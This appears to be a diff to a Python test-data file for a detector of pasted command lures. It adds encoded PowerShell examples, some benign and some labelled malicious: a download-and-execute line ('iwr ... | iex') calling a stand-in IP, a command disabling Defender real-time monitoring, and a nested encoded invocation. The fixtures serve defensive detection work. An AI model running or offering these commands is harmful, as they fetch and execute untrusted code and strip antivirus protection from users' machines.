@@ -332,6 +332,10 @@ def admin_commands() -> list[dict[str, str]]:
          "pwsh -NoProfile -EncodedCommand RwBlAHQALQBQAHIAbwBjAGUAcwBzAA=="),  # Get-Process
         (f"{ms}/powershell/module/microsoft.powershell.core/about/about_powershell_exe",
          "powershell.exe -EncodedCommand ZABpAHIAIAAiAGMAOgBcAHAAcgBvAGcAcgBhAG0AIABmAGkAbABlAHMAIgAgAA=="),  # dir "c:\program files"
+        (f"{ms}/powershell/module/microsoft.powershell.core/about/about_pwsh",
+         "$command = 'Get-Service -Name Spooler'\n"
+         "$bytes = [System.Text.Encoding]::Unicode.GetBytes($command)\n"
+         "$encoded = [Convert]::ToBase64String($bytes)\npwsh -EncodedCommand $encoded"),
         (f"{ms}/windows-server/administration/windows-commands/sfc", "sfc /verifyonly"),
         (f"{ms}/windows-hardware/manufacture/desktop/repair-a-windows-image",
          "DISM /Online /Cleanup-Image /ScanHealth"),
@@ -570,6 +574,19 @@ def lures() -> list[dict[str, str]]:
              UNRELATED_PAGES[5], "run_dialog"),
         case("dv-enc-reads-bare", f"powershell -enc {enc}", "info", "benign-admin", "windows", "",
              "unknown"),
+        case("dv-lure-enc-built-download",
+             "$command = 'iwr https://198.51.100.7/a | iex'\n"
+             "$bytes = [System.Text.Encoding]::Unicode.GetBytes($command)\n"
+             "$encoded = [Convert]::ToBase64String($bytes)\npwsh -EncodedCommand $encoded",
+             "malicious", LURE, "windows", UNRELATED_PAGES[2], "terminal"),
+        case("dv-lure-enc-built-writes",
+             "$command = 'Set-MpPreference -DisableRealtimeMonitoring $true'\n"
+             "$bytes = [System.Text.Encoding]::Unicode.GetBytes($command)\n"
+             "$encoded = [Convert]::ToBase64String($bytes)\npwsh -EncodedCommand $encoded",
+             "malicious", LURE, "windows", UNRELATED_PAGES[3], "terminal"),
+        case("dv-lure-enc-nested",
+             "powershell -enc " + "cABvAHcAZQByAHMAaABlAGwAbAAgAC0AZQBuAGMAIABSAHcAQgBsAEEASABRAEEATABRAEIARQBBAEcARQBBAGQAQQBCAGwAQQBBAD0APQA=",
+             "flagged", LURE, "windows", "", "unknown"),
     ]  # fmt: skip
     # pasted into an editor nothing runs, but a lure's disguise is still worth saying
     out.append(case("dv-lure-editor-padded",
